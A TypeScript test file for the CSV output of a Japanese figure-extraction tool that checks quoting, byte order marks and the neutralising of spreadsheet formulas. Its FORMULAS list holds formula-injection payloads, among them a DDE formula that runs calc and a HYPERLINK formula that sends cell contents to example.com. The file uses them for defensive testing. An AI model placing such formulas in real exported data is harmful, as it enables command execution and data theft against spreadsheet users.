import { expect, test } from "vitest";
import { csvFormat } from "../../../src/cli/formats/csv";
import type { Figure, Summary } from "../../../src/types";
import { folderOf, yomitori } from "../spawn";

const HEADER =
  "article,file,id,sentence,start,end,text,kind,decimal,low,high,modifier,unit.code,unit.text,perUnit.code,perUnit.text," +
  "measuredEntity,measuredProperty,conversionOf,changeFrom,partOf,comparison.basis,comparison.text,comparison.direction," +
  "comparison.signed,status,period,period.timex,sentenceText";

/** Reads CSV after RFC 4180, as a spreadsheet does. */
function readCsv(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (const [, quoted, plain, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    row.push(quoted?.replaceAll('""', '"') ?? plain!);
    if (end === ",") continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

test("a row for each figure under a fixed header", async () => {
  const folder = folderOf({
    "a.txt": '売上高は3億円。\n社長は「約150,"兆"円」と言う。',
    "b.ndjson": '{"id":"b","text":"10〜20%"}\n!',
  });
  const { code, out, err } = await yomitori(["--format", "csv", "a.txt", "b.ndjson"], "", folder);
  expect(code).toBe(1);
  expect(err).toMatch(/^yomitori: b\.ndjson:2: the line is not JSON/);
  const [header, first, ...rest] = readCsv(out);
  expect(header!.join(",")).toBe(HEADER);
  expect(first!.slice(0, 10)).toEqual(["", "a.txt", "f1", "0", "4", "7", "3億円", "money", "300000000", ""]);
  expect(rest.at(-1)!.slice(0, 11)).toEqual([
    "b",
    "b.ndjson",
    "f1",
    "0",
    "0",
    "6",
    "10〜20%",
    "percent",
    "",
    "10",
    "20",
  ]);
  expect(out.endsWith("\r\n")).toBe(true);
});

test("--bom begins the file with a byte order mark", async () => {
  expect((await yomitori(["--format", "csv", "--bom"], "")).out).toBe(`\uFEFF${HEADER}\r\n`);
  expect((await yomitori(["--format", "csv"], "")).out).toBe(`${HEADER}\r\n`);
});

const BLANK = { start: 0, end: 1, text: "円", sentence: 0, id: "f1", kind: "number" } as unknown as Figure;
const NO_FIGURES = { sentences: [{ start: 0, end: 1 }], figures: [BLANK], times: [] } as unknown as Summary;

test("only cells with commas, quotes or line ends are quoted", () => {
  const text = '=1,"a"\r\nb';
  const figure = { ...BLANK, end: text.length, text };
  const summary = { ...NO_FIGURES, sentences: [{ start: 0, end: text.length }], figures: [figure] };
  const row = csvFormat(false).result(summary, { file: "-", text });
  expect(row).toContain('"=1,""a""\r\nb"');
  expect(readCsv(row)[0]!.at(-1)).toBe(text);
});

/** How the content of each column that can hold anything is set: by the article, or by a recognizer or a gazetteer of the user. */
const FREE: Readonly<Record<string, (text: string) => { summary?: object; figure?: object; source?: object }>> = {
  article: (id) => ({ summary: { id } }),
  file: (file) => ({ source: { file } }),
  id: (id) => ({ figure: { id } }),
  text: (text) => ({ figure: { text } }),
  kind: (kind) => ({ figure: { kind } }),
  decimal: (decimal) => ({ figure: { decimal } }),
  low: (low) => ({ figure: { low } }),
  high: (high) => ({ figure: { high } }),
  modifier: (modifier) => ({ figure: { modifier } }),
  "unit.code": (code) => ({ figure: { unit: { code } } }),
  "unit.text": (text) => ({ figure: { unit: { text } } }),
  "perUnit.code": (code) => ({ figure: { perUnit: { code } } }),
  "perUnit.text": (text) => ({ figure: { perUnit: { text } } }),
  measuredEntity: (text) => ({ figure: { measuredEntity: { text } } }),
  measuredProperty: (text) => ({ figure: { measuredProperty: { text } } }),
  conversionOf: (conversionOf) => ({ figure: { conversionOf } }),
  changeFrom: (changeFrom) => ({ figure: { changeFrom } }),
  partOf: (partOf) => ({ figure: { partOf } }),
  "comparison.basis": (basis) => ({ figure: { comparison: { basis } } }),
  "comparison.text": (text) => ({ figure: { comparison: { text } } }),
  "comparison.direction": (direction) => ({ figure: { comparison: { direction } } }),
  "comparison.signed": (signed) => ({ figure: { comparison: { signed } } }),
  status: (status) => ({ figure: { status } }),
  period: (period) => ({ figure: { period } }),
  "period.timex": (timex) => ({ figure: { period: "t1" }, summary: { times: [{ id: "t1", timex }] } }),
  sentenceText: (text) => ({
    summary: { sentences: [{ start: 0, end: text.length }] },
    source: { text },
  }),
};

/** Returns the cell of a column, as written and as read, in a row in which that column holds the text. */
function cell(column: string, text: string, format = csvFormat(false, true)): { written: string; read: string } {
  const { summary, figure, source } = FREE[column]!(text);
  const row = format.result({ ...NO_FIGURES, figures: [{ ...BLANK, ...figure } as Figure], ...summary } as Summary, {
    file: "a.txt",
    text: "円",
    ...source,
  });
  const read = readCsv(row);
  expect(read).toHaveLength(1);
  expect(read[0]).toHaveLength(COLUMNS.length);
  return { written: row, read: read[0]![COLUMNS.indexOf(column)]! };
}

const COLUMNS = HEADER.split(",");
const FORMULAS = [
  ...["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\tx", "\rx", "\nx", "＝1", "＋1", "－1", "＠a"],
  ...["﹦1", " =1", "\u3000＝1", "\u00A0=1", "\uFEFF=1", "\u200B\u200E=1", " \n =1", "\0=1", "\u001B=1"],
  `=cmd|'/C calc'!A0`,
  `=HYPERLINK("http://example.com/?"&A1,"a")`,
  `@x,"\r\n=2`,
  "-5%",
  "+81-3-1234",
  "--5",
  "+",
];

test("the columns of offsets and sentences are the only ones that no text can fill", () => {
  const free = COLUMNS.filter((column) => !["sentence", "start", "end"].includes(column));
  expect(Object.keys(FREE)).toEqual(free);
});

test.each(Object.keys(FREE))("no text of %s is a formula if the CSV is to be safe; otherwise it is exact", (column) => {
  for (const text of FORMULAS) {
    const { written, read } = cell(column, text);
    expect(read).toBe(`'${text}`);
    expect(written).toContain(`"'${text.replaceAll('"', '""')}"`);
    expect(cell(column, text, csvFormat(false)).read).toBe(text);
    expect(cell(column, text, csvFormat(true)).read).toBe(`'${text}`);
  }
  for (const text of ["3億円", "a=b", "a-b", "'a", "(5)", "1=1", "−5%", "a\n=1", "a;=1", "a\t=1"]) {
    const { written, read } = cell(column, text);
    expect(read).toBe(text);
    if (/[;\t\n]/.test(text)) expect(written).toContain(`"${text}"`);
  }
});

test.each(["decimal", "low", "high", "comparison.signed"])("the numbers of %s stay numbers", (column) => {
  for (const number of ["-5", "+3.2", "0", "-0.25", "18.2", `-${"9".repeat(300)}`])
    expect(cell(column, number).written).toContain(`,${number},`);
});

test("a text that is a number stays the text that it is: an id +81 is not 81", () => {
  expect(cell("article", "+81").read).toBe("'+81");
});

test("--csv-safe and --bom guard the cells of the command line, without them the data are exact; the header is the same", async () => {
  const input = JSON.stringify({ id: "=1+1", text: "=売上高は-5億円、気温は-3.2度だった。" });
  const run = async (...options: string[]) =>
    readCsv((await yomitori(["--input", "ndjson", "--format", "csv", ...options], input)).out);
  const [plain, safe, bom] = await Promise.all([run(), run("--csv-safe"), run("--bom")]);
  expect(plain[1]).toEqual(expect.arrayContaining(["=1+1", "=売上高は-5億円、気温は-3.2度だった。"]));
  expect(safe[1]).toEqual(expect.arrayContaining(["'=1+1", "'=売上高は-5億円、気温は-3.2度だった。", "-500000000"]));
  expect(safe[2]).toEqual(expect.arrayContaining(["-3.2"]));
  expect(bom.slice(1)).toEqual(safe.slice(1));
  expect([plain[0], safe[0]!]).toEqual([COLUMNS, COLUMNS]);
});
